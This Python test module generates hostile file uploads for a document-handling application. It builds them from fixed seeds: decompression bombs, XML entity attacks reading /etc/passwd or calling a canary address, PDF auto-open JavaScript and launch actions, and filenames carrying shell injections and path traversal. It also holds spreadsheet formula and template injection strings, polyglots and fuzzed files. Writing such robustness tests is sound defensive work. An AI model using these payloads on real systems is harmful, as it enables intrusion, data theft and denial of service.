# ruff: noqa: E501 (a line a file)
"""Files that somebody sends to harm an office: bombs, tricks, scripts, names that act, and real files with some bytes changed.

Each is made by code from a number, the same each time. What is told of a file: its name, its content, and an address that nothing may call.
"""

import io
import itertools
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from forbear.drafting.docx import shipped
from tests.packet.handed_in import LEASE, bomb, circling, coded, content, crowded, laden, laughing, layered, paper, picture_of

Sent = tuple[str, bytes]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
XML = '<?xml version="1.0" encoding="UTF-8"?>'
TYPES = f'{XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
NAMES = (
    "<script>alert(1)</script>.pdf", "\"><img src=x onerror=alert(1)>.pdf", "../../../etc/cron.d/run.pdf", "..\\..\\windows\\run.pdf", "C:\\run.pdf",
    "/etc/passwd.pdf", "a\x00.pdf", "a\r\nSet-Cookie: x=1.pdf", "\u202efdp.exe", "\u202egnp.pdf", "CON.pdf", "aux.pdf", ".pdf", "...", " ", "-rf.pdf",
    "$(touch x).pdf", "`id`.pdf", "a;rm -rf.pdf", "%2e%2e%2fx.pdf", "=cmd|' /C calc'!A0.pdf", "{{7*7}}.pdf", "{% load x %}.pdf", "a" * 5000 + ".pdf",
    "\u0301" * 300 + ".pdf", "\ud7ff\ufffe.pdf", "lease.pdf.exe", "lease.exe.pdf", "lease.PDF", "lease", "x.pdf\u200b", "\u2028x.pdf", "|x.pdf", "x.pdf?a=1#b",
)  # fmt: skip


def hostile(address: str, mutations: int = 50) -> Iterator[Sent]:
    """All of them; `mutations` of each kind of real file."""
    yield from _pdfs(address)
    yield from _pictures()
    yield from _packed(address)
    yield from _tables(address)
    yield from _texts(address)
    lease = paper([content(LEASE)])
    yield from ((name, lease) for name in NAMES)
    yield from _two_at_once(lease)
    for number, (name, whole) in enumerate(_real()):
        yield from _changed(name, whole, number, mutations)


def a_few(address: str) -> Iterator[Sent]:
    """Some that are made and read quickly."""
    return itertools.islice(itertools.chain(_pdfs(address), _texts(address)), 3, None, 16)


def _real() -> list[Sent]:
    photo = picture_of(["A receipt"], size=(300, 400))
    return [
        ("lease.pdf", paper([content(LEASE), content(["A second page"])], laden)),
        ("layers.pdf", paper([content(LEASE)], layered, object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        ("receipt.jpg", coded(photo)),
        ("receipt.png", coded(photo, "PNG")),
        ("receipt.tif", coded(photo, "TIFF", compression="tiff_lzw")),
        ("letter.docx", shipped("letter")),
        ("clients.xlsx", workbook([["Name", "A Number"], ["Ana Quetzal", "A200-555-123"], ["Luz Ixil", "A200-555-124"]])),
        ("clients.csv", b"Name,A Number,Entry Date\nAna Quetzal,A200-555-123,2015-04-02\nLuz Ixil,A200-555-124,2016-05-03\n"),
    ]


def _changed(name: str, whole: bytes, number: int, times: int) -> Iterator[Sent]:
    """Cut, doubled, garbled and spliced, each by its own number."""
    for time in range(times):
        chance = random.Random(f"{number}-{time}")
        made = bytearray(whole)
        for _ in range(chance.choice((1, 3, 20))):
            at = chance.randrange(len(made) or 1)
            match chance.randrange(6):
                case 0:
                    del made[at:]
                case 1:
                    made[at : at + 4] = chance.randbytes(4)
                case 2:
                    made[at:at] = made[: chance.randrange(2000)]
                case 3:
                    del made[at : at + chance.randrange(1, 200)]
                case 4:
                    made[at : at + 4] = chance.choice((b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff", b"9999"))
                case _:
                    made[at:at] = chance.choice((b"<<", b"endobj", b"\n=HYPERLINK(1)", b'"', b"<!ENTITY a 'b'>", b"stream\n"))
        stem, _, kind = name.rpartition(".")
        yield f"{stem}-{time}.{kind}", bytes(made)


def _pdfs(address: str) -> Iterator[Sent]:
    yield from (("bomb.pdf", bomb()), ("laughing.pdf", laughing()), ("circling.pdf", circling()), ("crowded.pdf", crowded()))
    yield "laden.pdf", paper([content(LEASE)], laden)
    for kind, more in (
        ("JavaScript", {"JS": String("app.launchURL('http://" + address + "')")}),
        ("Launch", {"F": String("/bin/sh")}),
        ("URI", {"URI": String(f"http://{address}/a")}),
        ("SubmitForm", {"F": String(f"http://{address}/b")}),
        ("ImportData", {"F": String("/etc/passwd")}),
        ("GoToR", {"F": String(f"//{address}/share/x.pdf"), "D": Array([0, Name.Fit])}),
        ("GoToE", {"F": String("a.pdf")}),
        ("Rendition", {"JS": String("x")}),
    ):
        action = Dictionary(S=Name(f"/{kind}"), **more)
        yield f"opens-{kind}.pdf", paper([content(LEASE)], lambda made, action=action: made.Root.__setattr__("OpenAction", action))
        yield (
            f"page-{kind}.pdf",
            paper([content(LEASE)], lambda made, action=action: made.pages[0].obj.__setattr__("AA", Dictionary(O=action))),
        )
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 600, 700]), A=action)
        yield f"link-{kind}.pdf", paper([content(LEASE)], lambda made, link=link: made.pages[0].obj.__setattr__("Annots", Array([link])))
    for side in (0, -1, 1, 14_400, 10**7, 10**30):
        yield f"side-{side}.pdf", _raw(f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 {side} {side}]/Contents 4 0 R>>", "BT ET")
    for filters in (
        "FlateDecode",
        "LZWDecode",
        "ASCII85Decode",
        "RunLengthDecode",
        "JBIG2Decode",
        "JPXDecode",
        "CCITTFaxDecode",
        "Crypt",
        "Nonsense",
    ):
        for times in (1, 60):
            yield (
                f"filter-{filters}-{times}.pdf",
                _raw("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>", "q Q" * 9, f"/{filters} " * times),
            )
    yield "xref-loop.pdf", _loop()
    yield "prev-self.pdf", _raw("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>", "", trailer="/Prev 9")
    yield "kids-self.pdf", _raw("<</Type/Pages/Parent 2 0 R/Count 1/Kids[3 0 R]>>", "")
    yield "deep.pdf", _raw("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Deep " + "[" * 100_000 + "]" * 100_000 + ">>", "")
    yield (
        "deep-names.pdf",
        _raw("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Deep " + "<</A" * 50_000 + " 1" + ">>" * 50_000 + ">>", ""),
    )
    yield "saves.pdf", _raw("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>", "q " * 500_000)
    yield "clips.pdf", _raw("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>", "0 0 600 700 re W n " * 60_000)
    yield (
        "lines.pdf",
        _raw("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>", "0 0 m " + "600 700 l 0 9 l " * 200_000 + "S"),
    )
    yield (
        "numbers.pdf",
        _raw("<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e309 -1e309]/Rotate 91/UserUnit 1e9/Contents 4 0 R>>", "1e308 0 0 1e308 0 0 cm"),
    )
    for key in ("Lab", "Separation", "Indexed", "ICCBased", "Pattern"):
        yield (
            f"colour-{key}.pdf",
            _raw(
                f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</ColorSpace<</C[/{key} 3 0 R 4 0 R 3 0 R]>>>>>>",
                "/C cs /C scn 0 0 9 9 re f",
            ),
        )
    for size in ((60_000, 60_000), (2**31 - 1, 1), (1, 2**31 - 1), (0, 0), (30_000, 30_000)):
        image = f"/Type/XObject/Subtype/Image/Width {size[0]}/Height {size[1]}/BitsPerComponent 8/ColorSpace/DeviceRGB"
        yield (
            f"image-{size[0]}x{size[1]}.pdf",
            _raw("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 5 0 R/Resources<</XObject<</I 4 0 R>>>>>>", "x", image=image),
        )
    font = "<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor<</Type/FontDescriptor/FontName/A/FontFile2 4 0 R>>>>"
    for junk in ("\0\1\0\0" + "\xff" * 200, "OTTO" + "A" * 500, "true" + "\0" * 60):
        yield (
            f"font-{len(junk)}.pdf",
            _raw(
                f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F {font}>>>>/Contents 5 0 R>>",
                junk,
                image="/Length1 9",
            ),
        )
    yield "locked.pdf", paper([content(LEASE)], encryption=pikepdf.Encryption(owner="a", user="b"))
    yield "empty.pdf", b""
    yield from ((f"head-{size}.pdf", b"%PDF-1.7" + bytes(size)) for size in (0, 1, 1000, 5_000_000))


def _raw(page: str, stream: str, filters: str = "", trailer: str = "", image: str = "") -> bytes:
    """A PDF of one page, written by hand; with `image` the stream is that, and another paints it."""
    body = stream.encode("latin-1")
    packed = zlib.compress(body) if image and "Length1" not in image else body
    about = f"{image}{'/Filter/FlateDecode' if packed is not body else ''}{f'/Filter[{filters}]' if filters else ''}"
    parts = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page.encode("latin-1")]
    parts.append(f"<<{about}/Length {len(packed)}>>stream\n".encode() + packed + b"\nendstream")
    parts.append(b"<</Length 60>>stream\nq 612 0 0 792 0 0 cm /I Do Q BT /F 12 Tf 9 9 Td (A\x01\xff) Tj ET          \nendstream")
    made, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(made))
        made += f"{number} 0 obj".encode() + part + b"endobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    return (
        made
        + f"xref\n0 {len(parts) + 1}\n0000000000 65535 f \n{table}trailer<</Root 1 0 R/Size {len(parts) + 1}{trailer}>>\nstartxref\n{len(made)}\n%%EOF".encode()
    )


def _loop() -> bytes:
    start = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    again = f"xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 3/Prev {len(start)}>>\nstartxref\n{len(start)}\n%%EOF"
    return start + again.encode()


def _png(width: int, height: int, data: bytes, *more: tuple[bytes, bytes]) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(itertools.starmap(chunk, more)) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _pictures() -> Iterator[Sent]:
    full = zlib.compress(bytes(200_000_000), 9)
    for width, height in ((2**31 - 1, 2**31 - 1), (60_000, 60_000), (30_000, 2_000), (1, 10_000_000), (0, 0), (8_000, 8_000)):
        yield f"bomb-{width}x{height}.png", _png(width, height, full)
    text = zlib.compress(bytes(300_000_000), 9)
    yield "words.png", _png(10, 10, zlib.compress(bytes(310)), (b"zTXt", b"a\0\0" + text))
    yield "profile.png", _png(10, 10, zlib.compress(bytes(310)), (b"iCCP", b"a\0\0" + text))
    small = coded(picture_of(["A"], size=(100, 100)))
    start = small.index(b"\xff\xc0") + 5
    for size in (b"\xff\xff\xff\xff", b"\0\0\0\0", b"\xff\xff\0\1"):
        yield f"sides-{size.hex()}.jpg", small[:start] + size + small[start + 4 :]
    yield "thumbs.jpg", small[:2] + b"\xff\xe1\xff\xffExif\0\0" + bytes(65_000) + small[2:]
    yield "scans.jpg", small[:-2] + small[small.index(b"\xff\xda") : -2] * 3000 + b"\xff\xd9"
    for at, offset in enumerate((8, 4, 0, 2**32 - 1)):
        yield f"loop-{at}.tif", b"II*\0" + struct.pack("<I", 8) + struct.pack("<HHHII", 1, 256, 4, 1, 9) + struct.pack("<I", offset)
    yield "wide.tif", b"MM\0*" + struct.pack(">I", 8) + struct.pack(">HHHIIHHII", 2, 256, 4, 1, 2**31, 257, 4, 1, 2**31) + bytes(4)
    yield (
        "pages.tif",
        b"".join([b"II*\0", *(struct.pack("<I", 8 + 18 * n) + struct.pack("<HHHII", 1, 256, 4, 1, 9)[:14] for n in range(4000))]),
    )
    for brand in (b"heic", b"mif1", b"avif", b"qt  "):
        yield (
            f"box-{brand.decode().strip()}.heic",
            struct.pack(">I", 24) + b"ftyp" + brand + bytes(12) + struct.pack(">I", 2**31) + b"meta" + bytes(99),
        )
    yield (
        "drawing.svg",
        f'{XML}<!DOCTYPE s [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">&a;</svg>'.encode(),
    )
    yield "drawing.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "moving.gif", b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\xf7\0\0" + bytes(768) + b"," + bytes(40)


def zipped(parts: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A packed file of these parts."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", method) as packed:
        for name, part in parts.items():
            packed.writestr(name, part)
    return into.getvalue()


def word(body: str, before: str = "", more: dict[str, bytes | str] | None = None, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A Word file of this body."""
    whole = f'{XML}{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": whole} | (more or {}), method)


def said(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def laughs(outer: str = "x") -> str:
    """The billion laughs."""
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {outer} [<!ENTITY l0 "ha">{lines}]>'


def _packed(address: str) -> Iterator[Sent]:
    for name in ("docx", "xlsx", "docm", "dotx"):
        yield f"laughs.{name}", word(said("&l9;"), laughs())
        yield f"file.{name}", word(said("&a;"), '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')
        yield f"web.{name}", word(said("&a;"), f'<!DOCTYPE x [<!ENTITY a SYSTEM "http://{address}/x">]>')
        yield f"parameter.{name}", word(said("a"), f'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://{address}/x.dtd"> %a;]>')
        yield f"dtd.{name}", word(said("a"), f'<!DOCTYPE x SYSTEM "http://{address}/x.dtd">')
    yield "large.docx", word(said("A" * 200_000_000))
    yield "attributes.docx", word("<w:p " + " ".join(f'a{n}="b"' for n in range(300_000)) + "/>")
    yield "deep.docx", word("<w:p>" * 100_000)
    yield "tables.docx", word("<w:tbl><w:tr><w:tc>" * 3000 + said("a") + "</w:tc></w:tr></w:tbl>" * 3000)
    yield "paragraphs.docx", word(said("a") * 900_000)
    yield "macros.docm", word(said("a"), more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "macros.docx", word(said("a"), more={"word/VBAPROJECT.BIN": b"x"})
    yield "embedded.docx", word(said("a"), more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(999)})
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    for kind in ("image", "attachedTemplate", "frame", "subDocument", "oleObject", "hyperlink"):
        line = f'<Relationship Id="r1" Type="{relations}/{kind}" Target="http://{address}/{kind}" TargetMode="External"/>'
        rels = f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{line}</Relationships>'
        yield f"loads-{kind}.docx", word(said("a"), more={"word/_rels/document.xml.rels": rels})
    for field in (
        f'INCLUDEPICTURE "http://{address}/p.png"',
        'INCLUDETEXT "/etc/passwd"',
        "DDEAUTO c:\\\\run.exe a",
        f'LINK "http://{address}/l"',
    ):
        yield f"field-{field[:8].strip()}.docx", word(f'<w:p><w:fldSimple w:instr="{field.replace(chr(34), "&quot;")}"/></w:p>{said("a")}')
    for name in ("../../../tmp/forbear-escaped", "/tmp/forbear-escaped", "..\\..\\x", "word/../../x", "a\0b", "con", "x" * 60_000):
        yield f"paths-{name[:6].encode().hex()}.docx", word(said("a"), more={name: "escaped"})
    for method, called in ((zipfile.ZIP_BZIP2, "bz2"), (zipfile.ZIP_LZMA, "lzma"), (zipfile.ZIP_STORED, "stored")):
        yield f"packed-{called}.docx", word(said("a"), method=method)
    yield "many.docx", word(said("a"), more={f"word/part{n}.xml": "<a/>" for n in range(20_000)})
    for template in (
        "{{ ''.__class__.__mro__ }}", "{% for a in range(10**9) %}x{% endfor %}", "{{ 'a' * 10**10 }}", "{% include '/etc/passwd' %}", "{{ self }}",
        "{% set a = cycler %}{{ a.__init__.__globals__ }}", "{{ 10 ** 10 ** 10 }}", "{% if %}", "{{", "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
        "{{ blocks|join(blocks)|string|list|random }}", "{% for a in 'aaaaaaaaaa' %}" * 12 + "x" + "{% endfor %}" * 12, "{%p for b in blocks %}" * 4 + "{%p endfor %}" * 4,
    ):  # fmt: skip
        yield f"template-{zlib.crc32(template.encode()):x}.docx", _in_shell(template)
    nested = b"x"
    for _ in range(30):
        nested = zipped({"a.zip": nested})
    yield "nested.docx", zipped({"word/document.xml": nested})
    same = io.BytesIO()
    with zipfile.ZipFile(same, "w") as packed:
        for text in (said("good"), laughs()):
            packed.writestr("word/document.xml", text)
    yield "twice.docx", same.getvalue()
    whole = word(said("a"))
    yield "sizes.docx", whole.replace(struct.pack("<I", len(whole)), b"\xff\xff\xff\xff")
    yield "flags.docx", whole.replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\1\0")


def _in_shell(template: str) -> bytes:
    """The shipped template of letters, with this in its first paragraph."""
    into = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(shipped("letter"))) as packed, zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as made:
        for item in packed.infolist():
            part = packed.read(item)
            if item.filename == "word/document.xml":
                part = part.replace(b"<w:body>", f"<w:body>{said(template.replace('<', '&lt;'))}".encode(), 1)
            made.writestr(item, part)
    return into.getvalue()


def workbook(rows: list[list[str]], sheet: str = "", before: str = "") -> bytes:
    """A workbook of one sheet."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    links = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    cell = '<c t="inlineStr"><is><t>{}</t></is></c>'
    cells = "".join(f"<row>{''.join(map(cell.format, row))}</row>" for row in rows)
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    rels = (
        f'<Relationships xmlns="{package}"><Relationship Id="r1" Type="{links}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    )
    book = f'<workbook xmlns="{main}" xmlns:r="{links}"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>'
    parts = {"[Content_Types].xml": TYPES, "xl/workbook.xml": book, "xl/_rels/workbook.xml.rels": rels}
    return zipped(
        parts | {"xl/worksheets/sheet1.xml": f'{XML}{before}<worksheet xmlns="{main}"><sheetData>{cells}{sheet}</sheetData></worksheet>'}
    )


def _tables(address: str) -> Iterator[Sent]:
    head = ["Name", "A Number"]
    yield "laughs2.xlsx", workbook([head, ["&l9;", "b"]], before=laughs("worksheet"))
    yield "web2.xlsx", workbook([head, ["&a;", "b"]], before=f'<!DOCTYPE w [<!ENTITY a SYSTEM "http://{address}/t">]>')
    yield "rows.xlsx", workbook([head, *[["a", "b"]] * 500_000])
    yield "columns.xlsx", workbook([["a"] * 20_000])
    yield "long.xlsx", workbook([head, ["a" * 150_000_000, "b"]])
    yield "far.xlsx", workbook([head], '<row r="9999999"><c r="XFD9999999" t="inlineStr"><is><t>a</t></is></c></row>')
    yield "places.xlsx", workbook([head], '<row r="-1"><c r="!!"><v>1e999</v></c></row>')
    for formula in (
        "=cmd|'/C calc'!A0",
        "+1+1",
        "-1",
        "@SUM(1)",
        "\t=1",
        f'=HYPERLINK("http://{address}","a")',
        f'=WEBSERVICE("http://{address}")',
        "\r=1",
    ):
        yield (
            f"formula-{zlib.crc32(formula.encode()):x}.csv",
            f'Name,A Number\n"{formula.replace(chr(34), chr(34) * 2)}",A200-555-123\n'.encode(),
        )
    yield "script.csv", b"Name,A Number\n<script>alert(1)</script>,A200-555-123\n"
    yield "header.csv", b"<script>alert(1)</script>,=1+1\na,b\n"
    yield "nul.csv", b"Name\0,A\nb,c\n"
    yield "quote.csv", b'Name,A\n"' + b"a" * 5_000_000
    yield "wide.csv", b"a," * 3_000_000
    yield "tall.csv", b"a,b\n" * 3_000_000
    yield "turned.csv", "Name,A\n\u202eabc,\u2066d\n".encode()
    yield "halves.csv", "Name,A\n\ud83d,b\n".encode("utf-16", "surrogatepass")
    yield "utf7.csv", b"\xff\xfe" + b"a" * 7
    yield "number.csv", b"Name,A Number,Entry Date\nA," + b"9" * 400_000 + b",9999-99-99\n"
    yield "many-quotes.csv", b"Name,A\n" + b'"",' * 500_000


def _texts(address: str) -> Iterator[Sent]:
    yield "page.html", f"<script src=http://{address}/x.js></script>".encode()
    yield "page.txt", b"<script>alert(1)</script> she admits that she lied " * 3
    yield "spaces.txt", b"a" + b" " * 3_000_000 + b"b."
    yield "one-word.txt", b"a" * 4_000_000
    yield "dots.txt", b". " * 1_000_000
    yield "lines.txt", b"\n" * 3_000_000 + b"a"
    yield "brackets.txt", b"(" * 200_000 + b"a" + b")" * 200_000
    yield "numbers.txt", b"8 C.F.R. 1003." * 30_000
    yield "marks.txt", ("a\u0301\u0301\u0301" * 200_000).encode()
    yield "rtf.rtf", b"{\\rtf1{\\object\\objdata 0105}" + b"{" * 100_000
    yield "run.exe", b"MZ" + bytes(2000)
    yield "run.sh", b"#!/bin/sh\ntouch /tmp/forbear-escaped\n"
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000)
    yield "mail.eml", f"Content-Type: message/external-body; URL=http://{address}/\n\na".encode()


def _two_at_once(lease: bytes) -> Iterator[Sent]:
    """Files that are two kinds at once."""
    photo, packed = coded(picture_of(["A"], size=(80, 80))), word(said("She was born in Guatemala."))
    halves: list[tuple[str, bytes]] = [
        ("pdf", lease),
        ("jpg", photo),
        ("docx", packed),
        ("html", b"<script>alert(1)</script>"),
        ("exe", b"MZ" + bytes(90)),
    ]
    for (first, one), (second, other) in itertools.permutations(halves, 2):
        for name in (first, second):
            yield f"both-{first}-{second}.{name}", one + other
